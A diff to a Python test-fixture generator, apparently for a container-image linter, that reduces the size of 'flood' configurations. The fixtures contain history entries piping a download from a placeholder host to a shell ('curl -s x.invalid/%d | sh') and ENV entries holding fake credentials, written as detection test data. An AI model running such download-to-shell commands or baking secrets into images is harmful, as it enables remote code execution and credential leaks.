@@ -412,21 +412,21 @@ def repeated_layers():
 # ----------------------------------------------------- history and Env
 
 def floods():
-    """Configurations of 9 to 13 MB: 200,000 history entries that each
-    pipe a download to a shell or set a credential in ENV, and 150,000
+    """Configurations of 2 to 3 MB: 40,000 history entries that each
+    pipe a download to a shell or set a credential in ENV, and 40,000
     Env entries that each hold a credential."""
     lay = Layout("history-flood")
     history = [{"created_by": "/bin/sh -c curl -s x.invalid/%d | sh" % i}
-               for i in range(200000)]
+               for i in range(40000)]
     cfg = config_of(diff_ids=[digest(BENIGN)], history=history)
     lay.index([lay.manifest(cfg, [lay.layer(BENIGN)], **ref("1.0"))])
 
-    # 200,000 ENV entries: each name is remembered (an Env entry that
+    # 40,000 ENV entries: each name is remembered (an Env entry that
     # history sets is not linted again).
     lay = Layout("history-env-flood")
     history = [{"created_by": "/bin/sh -c #(nop) ENV SECRET_%d=%s" %
                 (i, hashlib.sha256(b"%d" % i).hexdigest()[:20])}
-               for i in range(200000)]
+               for i in range(40000)]
     cfg = config_of(diff_ids=[digest(BENIGN)], history=history)
     lay.index([lay.manifest(cfg, [lay.layer(BENIGN)], **ref("1.0"))])
 
@@ -439,7 +439,7 @@ def floods():
     lay = Layout("env-flood")
     env = ["SERVICE_PASSWORD_%d=%s" % (i, hashlib.sha256(b"%d" % i)
                                        .hexdigest()[:20])
-           for i in range(150000)]
+           for i in range(40000)]
     cfg = {"architecture": "amd64", "os": "linux",
            "config": {"User": "10001", "Env": env},
            "rootfs": {"type": "layers", "diff_ids": [digest(BENIGN)]}}
